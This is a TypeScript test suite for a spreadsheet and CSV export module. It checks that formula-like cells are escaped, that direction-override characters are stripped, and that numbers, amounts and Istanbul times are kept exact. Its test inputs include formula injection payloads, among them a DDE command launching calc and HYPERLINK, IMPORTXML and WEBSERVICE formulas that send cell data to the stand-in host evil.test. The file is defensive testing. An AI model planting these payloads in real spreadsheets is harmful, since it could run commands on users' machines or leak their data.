import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { visibleText } from '#lib/values/foreign-text.ts';
import { decimal, forcedText, guarded, isFormula } from './cells.ts';
import { excelCsv, machineCsv } from './csv.ts';
import { FRAME } from './testing/frame.ts';
import { readCsv, readSheet } from './testing/unzip.ts';
import { isoInstant, wallClock } from './wall-clock.ts';
import { sheetRows } from './xlsx.ts';
import type { Column } from './source.ts';

/** Formulas that spreadsheets run, in the spellings by which attackers hide them. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?"&A1,"tıkla")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML("http://evil.test","//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u2003@x',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\t',
  '\r\n',
  '=',
  '+',
  '-',
  '@',
  '-1',
  '+90 532 000 00 00',
  '=WEBSERVICE("http://evil.test")',
  '"=1+1'.slice(1),
];
const COLUMNS: Column[] = [
  { key: 'a', kind: 'text', width: 1 },
  { key: 'b', kind: 'text', width: 1 },
  { key: 'state', kind: 'code', width: 1 },
];
const frame = { ...FRAME, role: 'clerk' as const, by: 'Ayşe', zone: 'Europe/Istanbul' };

describe('a text that a spreadsheet would run', () => {
  it.each(FORMULAS)('is shown as text in each form: %j', (text) => {
    for (const cells of [
      readCsv(excelCsv(COLUMNS, frame).row([text, 'x', text]), ';'),
      readCsv(machineCsv(COLUMNS).row([text, 'x', text]), ','),
    ])
      expect(cells).toEqual([[`'${text}`, 'x', `'${text}`]]);
    const [row] = readSheet(sheetRows(COLUMNS, frame).row([text, 'x', text]));
    expect(row!.map(({ number, style }) => [number, style])).toEqual([
      [false, 3],
      [false, 2],
      [false, 3],
    ]);
    expect(row![0]!.text).toBe(text.replace('\0', '\uFFFD'));
  });

  it('nor does one that was stored with hidden marks of direction turn what stands beside it around', () => {
    const name = 'Ali \u202egnp.exe';
    for (const row of [
      excelCsv(COLUMNS, frame).row([name, 'x', name]),
      machineCsv(COLUMNS).row([name, 'x', name]),
      sheetRows(COLUMNS, frame).row([name, 'x', name]),
    ]) {
      expect(row).not.toContain('\u202e');
      expect(row.split('Ali [U+202E]gnp.exe')).toHaveLength(3);
    }
  });

  it('and no other text is touched by that', () => {
    for (const text of [
      'ABC Ltd.',
      'a=b',
      'İş Bankası',
      '1-2',
      'TR330006100519786457841326',
      "'",
      'ö@x',
      '(5)',
      '“=”',
    ])
      expect(guarded(text)).toBe(text);
  });

  it('never leaves its cell, whatever else is in it', () => {
    const texts = fc.array(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.constantFrom(
          ...FORMULAS,
          '"',
          ';',
          ',',
          '\r\n',
          '","=1',
          '</t></is></c><c><f>1+1</f></c>',
          ']]>',
          '\u2066',
        ),
      ),
      { minLength: 3, maxLength: 3 },
    );
    fc.assert(
      fc.property(texts, (cells) => {
        for (const [lines, mark] of [
          [excelCsv(COLUMNS, frame), ';'],
          [machineCsv(COLUMNS), ','],
        ] as const) {
          const rows = readCsv(lines.row(cells), mark);
          expect(rows.length).toBe(1);
          expect(rows[0]!.map((text) => text.replace(/^'/, ''))).toEqual(
            cells.map((text) => visibleText(text).replace(/^'/, '')),
          );
          for (const text of rows[0]!) expect(isFormula(text)).toBe(false);
        }
        const xml = sheetRows(COLUMNS, frame).row(cells);
        expect(xml).not.toMatch(/<f[ >]/);
        const [row] = readSheet(xml);
        expect(row!.length).toBe(3);
      }),
      { numRuns: 500 },
    );
  });
});

it('a text of which Excel would make a number or a date stays a text; in the form for programs it is untouched', () => {
  for (const text of [
    '2506172605407833407',
    '00123',
    '1-2',
    '01.02.2026',
    '12:30',
    '1,5',
    '7E3',
    '7E+3',
    '(1.250,50)',
    '(5)',
    '%5',
    '12,5 %',
    '10000000146',
    '4410270001',
  ]) {
    expect(forcedText(text)).toBe(`'${text}`);
    expect(machineCsv(COLUMNS).row([text, null, null])).toBe(
      text.includes(',') ? `"${text}",,\r\n` : `${text},,\r\n`,
    );
  }
  for (const text of ['TR330006100519786457841326', 'A12', '12 adet', 'ABC', '7E3F', '(%)', '7E+'])
    expect(forcedText(text)).toBe(text);
});

it('a text of a workbook that looks like the code of a letter is read as it was written', () => {
  const cells = ['REF_x0041_7_x000D_x000d_', '_x41_ a_X0041_', 'x0041_'];
  const [row] = readSheet(sheetRows(COLUMNS, frame).row(cells));
  const written = row!.map(({ text }) => text);
  expect(written).toEqual(['REF_x005F_x0041_7_x005F_x000D_x005F_x000d_', ...cells.slice(1)]);
  // As a spreadsheet reads it (ECMA-376, 22.9.2.19).
  const read = (text: string): string =>
    text.replace(/_x([0-9A-Fa-f]{4})_/g, (_all, code: string) =>
      String.fromCharCode(Number.parseInt(code, 16)),
    );
  expect(written.map(read)).toEqual(cells);
});

it('amounts are exact, whatever their size and sign', () => {
  fc.assert(
    fc.property(fc.bigInt({ min: -(10n ** 18n), max: 10n ** 18n }), (minor) => {
      const [whole, fraction] = decimal(minor.toString(), ',').split(',');
      expect(fraction).toMatch(/^\d\d$/);
      expect(BigInt(`${whole}${fraction}`)).toBe(minor);
    }),
  );
  const [row] = readSheet(
    sheetRows(
      [
        { key: 'x', kind: 'minor', width: 1 },
        { key: 'y', kind: 'minor', width: 1 },
      ],
      frame,
    ).row(['1240000', '1234567890123456']),
  );
  expect(row).toEqual([
    { text: '12400.00', number: true, style: 4 },
    { text: '12345678901234.56', number: false, style: 2 },
  ]);
});

describe('times', () => {
  it('21:30 UTC belongs to the next day in Istanbul, and to its own in UTC', () => {
    const instant = '2026-03-05 21:30:00.123456+00';
    expect(wallClock('Europe/Istanbul').text(instant)).toBe('06.03.2026 00:30:00');
    // A spreadsheet shows 46087 as 6 March 2026.
    expect(Number(wallClock('Europe/Istanbul').serial(instant))).toBeCloseTo(
      46_087 + 30 / 1_440,
      6,
    );
    expect(isoInstant(instant)).toBe('2026-03-05T21:30:00.123456Z');
  });

  it('follow the zone of that moment: Istanbul had summer time before 2016, and some offsets are odd', () => {
    expect(wallClock('Europe/Istanbul').text('2015-01-01 21:30:00+00')).toBe('01.01.2015 23:30:00');
    expect(wallClock('Europe/Istanbul').text('2015-07-01 21:30:00+00')).toBe('02.07.2015 00:30:00');
    expect(wallClock('Asia/Kathmandu').text('2026-03-05 18:20:15+00')).toBe('06.03.2026 00:05:15');
  });
});
